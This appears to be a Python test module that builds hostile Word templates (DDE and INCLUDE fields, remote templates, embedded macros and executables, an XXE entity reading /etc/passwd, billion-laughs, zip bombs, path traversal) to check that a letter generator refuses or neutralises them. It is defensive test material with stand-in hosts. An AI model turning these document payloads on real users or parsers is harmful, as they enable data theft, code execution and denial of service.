"""Word templates that fetch, run, embed or unfold: refused with their name, or inert in the letters."""

from __future__ import annotations

import io
import re
import warnings
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import replace
from functools import partial

from rsa_sched.publish.letters.folder import BUNDLED
from tests.hostile.base import Case, Cases
from tests.hostile.bombs import with_blanks
from tests.hostile.cases_pages import MARK, MULTIPLIED, multiplied, template

WORD = "prescripteur.docx"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_BODY, _RELATIONS, _TYPES = "word/document.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"


def parts_of(name: str = WORD) -> dict[str, bytes]:
    """The parts of a bundled Word template."""
    with zipfile.ZipFile(BUNDLED / name) as archive:
        return {part: archive.read(part) for part in archive.namelist()}


def packed(parts: Mapping[str, bytes]) -> bytes:
    """A zip of parts."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return stream.getvalue()


def word(added: str = "", *, more: Mapping[str, bytes] | None = None, relations: str = "", types: str = "",
         inert: str = MARK) -> Case:  # fmt: skip
    """The Word letter with XML added at the end of its body, parts, relations and types of content."""
    parts = parts_of()
    end = parts[_BODY].rindex(b"<w:sectPr")
    parts[_BODY] = parts[_BODY][:end] + added.encode() + parts[_BODY][end:]
    parts[_RELATIONS] = parts[_RELATIONS].replace(b"</Relationships>", relations.encode() + b"</Relationships>")
    parts[_TYPES] = parts[_TYPES].replace(b"</Types>", types.encode() + b"</Types>")
    return template(WORD, packed({**parts, **(more or {})}), (inert.encode(),) if inert else ())


def relation(kind: str, target: str, mode: str = "External") -> str:
    """A relation of the document."""
    return f'<Relationship Id="rIdX" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'


def field(code: str) -> str:
    """A paragraph with a field, in one piece."""
    return f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'


def cut_field(code: str, step: int = 3) -> str:
    """The same in pieces, as Word writes it."""
    pieces = "".join(
        f'<w:r><w:instrText xml:space="preserve">{code[n : n + step]}</w:instrText></w:r>'
        for n in range(0, len(code), step)
    )
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{pieces}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


FIELDS = {
    "DDEAUTO": "DDEAUTO c:\\\\evil.invalid /k",
    "DDE": "DDE c:\\\\evil.invalid x",
    "INCLUDETEXT": "INCLUDETEXT //evil.invalid/x.docx",
    "INCLUDEPICTURE": "INCLUDEPICTURE //evil.invalid/x.png \\d",
    "INCLUDE": "INCLUDE //evil.invalid/x.docx",
    "IMPORT": "IMPORT //evil.invalid/x.png",
    "LINK": "LINK Excel.Sheet.12 //evil.invalid/x.xlsx",
    "EMBED": "EMBED Package evil.invalid",
    "DATABASE": "DATABASE \\d //evil.invalid/x.mdb",
    "RD": "RD //evil.invalid/x.docx",
    "MACROBUTTON": "MACROBUTTON evil.invalid x",
    "QUOTE of a field": "QUOTE 68 68 69 evil.invalid",
    "HTMLCONTROL": "HTMLCONTROL evil.invalid",
    "AUTOTEXT": "AUTOTEXT evil.invalid",
}
RELATIONS = ("image", "oleObject", "attachedTemplate", "frame", "subDocument", "aFChunk", "video", "audio", "control",
             "package", "customXml", "glossaryDocument", "settings", "styles", "header", "footer", "comments",
             "font", "theme", "vbaProject")  # fmt: skip


def _paragraph(text: str) -> Case:
    return word(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>", inert="")


def word_cases() -> Cases:
    """Templates of Word."""
    chunk = f'<w:altChunk xmlns:r="{_OFFICE}" r:id="rIdX"/>'
    settings = parts_of()["word/settings.xml"]
    types = '<Override PartName="/word/{}" ContentType="{}"/>'
    body = parts_of()[_BODY]
    laughs = b'<!DOCTYPE x [<!ENTITY a "ha">' + b"".join(
        b'<!ENTITY %c "%b">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
    ) + b"]>"  # fmt: skip
    declared = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", body)

    def with_body(data: bytes, inert: bytes = b"") -> Case:
        return template(WORD, packed(parts_of() | {_BODY: data}), (inert,) if inert else ())

    found: Cases = {
        **{f"word: field {name}": partial(word, field(code)) for name, code in FIELDS.items()},
        **{f"word: field {name} in pieces": partial(word, cut_field(code), inert=code[:3]) for name, code in FIELDS.items()
           if name in ("DDEAUTO", "INCLUDETEXT", "LINK", "INCLUDEPICTURE")},
        **{f"word: relation {kind}": partial(word, relations=relation(kind, "http://evil.invalid/x")) for kind in RELATIONS},
        **{f"word: {name}": partial(multiplied, _paragraph, name) for name in MULTIPLIED},
        "word: field within a field": lambda: word(cut_field("QUOTE ").replace("<w:t>x</w:t>", "<w:instrText>DDEAUTO evil.invalid</w:instrText>")),
        "word: altChunk": lambda: word(chunk, more={"word/x.html": b"<script>//evil.invalid</script>"},
                               relations=relation("aFChunk", "x.html", "Internal"),
                               types='<Default Extension="html" ContentType="text/html"/>'),
        "word: altChunk of RTF": lambda: word(chunk, more={"word/x.rtf": b"{\\rtf1 evil.invalid}"},
                                      relations=relation("aFChunk", "x.rtf", "Internal"),
                                      types='<Default Extension="rtf" ContentType="application/rtf"/>'),
        "word: object": lambda: word(more={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0evil.invalid"},
                             relations=relation("oleObject", "embeddings/oleObject1.bin", "Internal"),
                             types='<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'),
        "word: program": lambda: word(more={"word/embeddings/x.exe": b"MZevil.invalid"},
                              relations=relation("package", "embeddings/x.exe", "Internal"),
                              types='<Default Extension="exe" ContentType="application/x-msdownload"/>'),
        "word: control": lambda: word(more={"word/activeX/activeX1.xml": b"<x>evil.invalid</x>"},
                              relations=relation("control", "activeX/activeX1.xml", "Internal"),
                              types=types.format("activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")),
        "word: macros": lambda: word(more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0evil.invalid"},
                             relations='<Relationship Id="rIdX" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>',
                             types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
        "word: named as one with macros": lambda: template(WORD, packed(parts_of() | {
            _TYPES: parts_of()[_TYPES].replace(b"wordprocessingml.document.main", b"x").replace(
                b"application/vnd.openxmlformats-officedocument.x", b"application/vnd.ms-word.document.macroEnabled.main")}),
            (b"macroEnabled",)),
        "word: parts that nothing names": lambda: word(more={"word/evil.invalid.bin": b"x"}),
        "word: remote template": lambda: template(WORD, packed(parts_of() | {
            "word/_rels/settings.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + relation("attachedTemplate", "http://evil.invalid/x.dotm").encode() + b"</Relationships>",
            "word/settings.xml": settings.replace(b"</w:settings>", b'<w:attachedTemplate xmlns:r="' + _OFFICE.encode()
                                                  + b'" r:id="rIdX"/></w:settings>')}), (MARK.encode(),)),
        "word: mail merge": lambda: template(WORD, packed(parts_of() | {
            "word/settings.xml": settings.replace(b"</w:settings>", b'<w:mailMerge><w:query w:val="SELECT evil.invalid"/>'
                                                  b"</w:mailMerge></w:settings>")}), (MARK.encode(),)),
        "word: frames": lambda: word(more={"word/webSettings.xml": f'<w:webSettings xmlns:w="{_W}"><w:frameset><w:frame>'
                                   '<w:sourceFileName w:val="evil.invalid"/></w:frame></w:frameset></w:webSettings>'.encode()}),
        "word: a relation of a relation": lambda: word(relations=relation("hyperlink", "file:///c:/evil.invalid.exe")),
        "word: a picture of VML": lambda: word('<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata '
                                       f'xmlns:r="{_OFFICE}" r:href="rIdX"/></v:shape></w:pict></w:r></w:p>',
                                       relations=relation("image", "//evil.invalid/x.png")),
        "word: unfolds to 49 MiB": lambda: template(WORD, packed(parts_of() | {"word/x.xml": b" " * (49 << 20)}), ()),
        "word: styles of 45 MiB": lambda: template(WORD, packed(parts_of() | {
            "word/styles.xml": parts_of()["word/styles.xml"] + b"<!--" + b" " * (45 << 20) + b"-->"}), ()),
        "word: a picture of 45 MiB": lambda: word(
            more={"word/media/image1.png": b"\x89PNG" + b" " * (45 << 20)}, relations=relation("image", "media/image1.png", "Internal"),
            types='<Default Extension="png" ContentType="image/png"/>', inert=""),
        "word: unfolds to 3 GiB": lambda: template(WORD, _huge(3 << 30), ()),
        "word: lies about its size": lambda: template(WORD, _lying(60 << 20), ()),
        "word: a body of 45 MiB": lambda: with_body(body.replace(b"</w:body>", b"<w:p/>" * 7_500_000 + b"</w:body>")),
        "word: 200000 paragraphs": lambda: with_body(body.replace(b"<w:sectPr", b"<w:p/>" * 70_000 + b"<w:sectPr", 1)),
        "word: nested 5000 times": lambda: word("<w:sdt>" * 5_000 + "</w:sdt>" * 5_000, inert=""),
        "word: laughs": lambda: with_body(laughs + declared.replace(b"</w:body>", b"<w:p><w:r><w:t>&j;</w:t></w:r></w:p></w:body>")),
        "word: outside entity": lambda: with_body(b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + declared.replace(
            b"</w:body>", b"<w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:body>"), b"root:"),
        "word: laughs in styles": lambda: template(WORD, packed(parts_of() | {
            "word/styles.xml": laughs + b"<x>&j;</x>"}), ()),
        "word: no body": lambda: template(WORD, packed({name: data for name, data in parts_of().items() if name != _BODY}), ()),
        "word: no types": lambda: template(WORD, packed({name: data for name, data in parts_of().items() if name != _TYPES}), ()),
        "word: body of nothing": lambda: with_body(b""),
        "word: body of UTF-16": lambda: with_body(body.decode().replace("UTF-8", "UTF-16").encode("utf-16")),
        "word: a relation that leads out": lambda: word(relations=relation("image", "../../../../etc/passwd", "Internal"), inert="root:"),
        "word: a relation to nothing": lambda: word(relations=relation("header", "none.xml", "Internal")),
        "word: a workbook": lambda: template(WORD, packed({"xl/workbook.xml": b"<x/>", _TYPES: b"<Types/>"}), ()),
        "word: a page": lambda: template(WORD, b"<html>", ()),
        "word: cut": lambda: template(WORD, packed(parts_of())[:-200], ()),
        "word: a part twice": lambda: template(WORD, _twice(), ()),
        "word: 70000 parts": lambda: template(WORD, _many(), ()),
        "word: paths that lead out": lambda: word(more={"../../evil.invalid": b"x", "/etc/evil.invalid": b"x"}),
    }  # fmt: skip
    refused = ("word: unfolds to 3 GiB", "word: styles of 45 MiB", "word: a picture of 45 MiB", "word: no body", "word: no types", "word: a page",
               "word: body of nothing", "word: cut", "word: laughs", "word: outside entity", "word: a workbook")  # fmt: skip
    return {name: partial(_refused, make) if name in refused else make for name, make in found.items()}


def _refused(make: Callable[[], Case]) -> Case:
    return replace(make(), codes=(2,))


def _huge(size: int) -> bytes:
    """A template with a part of so many blanks."""
    return with_blanks(packed(parts_of()), "word/x.xml", size)


def _lying(size: int) -> bytes:
    data = _huge(size)
    at = data.rindex(b"PK\x01\x02")
    return data[: at + 24] + b"\x10\0\0\0" + data[at + 28 :]


def _twice() -> bytes:
    stream = io.BytesIO(packed(parts_of()))
    with warnings.catch_warnings(), zipfile.ZipFile(stream, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr(_BODY, b"<x/>")
    return stream.getvalue()


def _many() -> bytes:
    stream = io.BytesIO(packed(parts_of()))
    with zipfile.ZipFile(stream, "a") as archive:
        for number in range(30_000):
            archive.writestr(f"word/{number}.xml", b"")
    return stream.getvalue()
